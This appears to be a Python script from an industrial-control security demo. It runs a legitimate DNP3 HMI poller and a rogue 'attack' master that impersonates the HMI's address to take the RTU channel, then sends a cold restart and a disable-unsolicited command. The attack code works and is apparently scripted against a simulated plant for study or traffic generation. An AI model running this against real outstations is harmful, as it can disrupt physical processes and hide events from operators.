# ruff: noqa: N802 - the binding calls these methods by their C++ names
"""DNP3 masters of the demo, with yadnp3 (opendnp3): the HMI's SCADA master and the attacker's.

``hmi``: master address 1 of rtu1 (outstation 10) from before tick 0 to the end.  At start the
stack does what opendnp3 always does: clear the restart IIN, an integrity poll, enable
unsolicited.  It is configured *not* to disable unsolicited at startup and not to sync time,
so in the normal phase no disable-unsolicited and no time write appear.  Then, on the time table
of ``plant.py``: a class 1/2/3 event poll every 5 ticks, an integrity (class 0/1/2/3) poll every
30 ticks, and it confirms the RTU's unsolicited responses.  When the attacker's connection takes
the channel, it reconnects after ``DNP3_HMI_RETRY_SECONDS``; opendnp3 does not run its startup
again on a reconnect, so unsolicited reporting stays disabled after the attack and the events
reach the HMI with its class polls only.

``attack``: a rogue master with the HMI's address 1 connects in the attack phase (the RTU
then drops the HMI), lets the stack's startup run (integrity poll, enable unsolicited), sends a
cold restart (FC13) and a disable unsolicited for classes 1-3 (FC21), and shuts down.

Prints one line per task result.  Must not write any file.

usage: dnp3_master.py {hmi,attack} EPOCH
"""

from __future__ import annotations

import sys
import time
from pathlib import Path

import opendnp3 as o

sys.path.insert(0, str(Path(__file__).resolve().parent))
import plant
from plant import at, sleep_until, ticks


def say(*args: object) -> None:
    print(time.strftime("%H:%M:%S"), *args, flush=True)


class Listener(o.IChannelListener):
    def OnStateChange(self, state: object) -> None:
        say("channel", state)


class Measurements(o.ISOEHandler):
    def BeginFragment(self, info: object) -> None:
        pass

    def EndFragment(self, info: object) -> None:
        pass

    def Process(self, info: object, values: object) -> None:
        pass


class Application(o.IMasterApplication):
    def OnOpen(self) -> None:
        pass

    def OnClose(self) -> None:
        pass

    def OnReceiveIIN(self, iin: object) -> None:
        pass

    def OnTaskStart(self, task: object, identifier: object) -> None:
        pass

    def OnTaskComplete(self, info: object) -> None:
        say("task", info.type, info.result)

    def AssignClassDuringStartup(self) -> bool:
        return False

    def Now(self) -> object:
        return o.UTCTimestamp(int(time.time() * 1000))


def open_master(retry_seconds: int) -> tuple[object, object, Measurements]:
    manager = o.DNP3Manager(1)
    retry = o.ChannelRetry(o.TimeDuration.Seconds(retry_seconds), o.TimeDuration.Seconds(retry_seconds))
    # After the outstation drops a working connection opendnp3 reconnects at once unless
    # reconnectDelay is set; two masters of a CloseExisting outstation then take the channel
    # from each other thousands of times a second.
    retry.reconnectDelay = o.TimeDuration.Seconds(retry_seconds)
    channel = manager.AddTCPClient(
        "master",
        o.levels.NORMAL,
        retry,
        [o.IPEndpoint(plant.RTU1.ip, plant.DNP3_PORT)],
        "0.0.0.0",
        Listener(),
    )
    config = o.MasterStackConfig()
    config.master.responseTimeout = o.TimeDuration.Seconds(2)
    config.master.timeSyncMode = getattr(o.TimeSyncMode, "None")
    config.master.disableUnsolOnStartup = False
    config.link.LocalAddr = plant.DNP3_MASTER_ADDRESS
    config.link.RemoteAddr = plant.DNP3_OUTSTATION_ADDRESS
    handler = Measurements()
    master = channel.AddMaster("master", handler, Application(), config)
    master.Enable()
    return manager, master, handler


def hmi(epoch: float) -> None:
    sleep_until(epoch - plant.LEAD_IN + 1.0)
    manager, master, handler = open_master(plant.DNP3_HMI_RETRY_SECONDS)
    total = plant.NORMAL_TICKS + plant.ATTACK_TICKS
    integrity = set(ticks(total, plant.DNP3_INTEGRITY_EVERY, plant.DNP3_INTEGRITY_FIRST))
    events = o.ClassField(False, True, True, True)
    everything = o.ClassField(True, True, True, True)
    for tick in ticks(total, plant.DNP3_EVENT_POLL_EVERY):
        sleep_until(at(epoch, tick, "dnp3_poll"))
        master.ScanClasses(everything if tick in integrity else events, handler)
    sleep_until(epoch + total)
    manager.Shutdown()


def attacker(epoch: float) -> None:
    base = plant.NORMAL_TICKS
    times = {
        name: at(epoch, base + tick, "attack") for tick, tool, name, _ in plant.ATTACK_STEPS if tool == "dnp3"
    }
    sleep_until(times["connect"])
    # A long retry: once the HMI takes the channel back, this master must not fight for it.
    manager, master, _ = open_master(600)
    sleep_until(times["cold_restart"])
    master.Restart(o.RestartType.COLD, lambda result: say("cold restart ->", result.summary))
    sleep_until(times["disable_unsolicited"])
    master.PerformFunction(
        "disable unsolicited",
        o.FunctionCode.DISABLE_UNSOLICITED,
        [o.Header.AllObjects(60, 2), o.Header.AllObjects(60, 3), o.Header.AllObjects(60, 4)],
    )
    time.sleep(0.5)
    manager.Shutdown()


def main() -> None:
    role, epoch = sys.argv[1], float(sys.argv[2])
    {"hmi": hmi, "attack": attacker}[role](epoch)
    say("DONE")


if __name__ == "__main__":
    main()
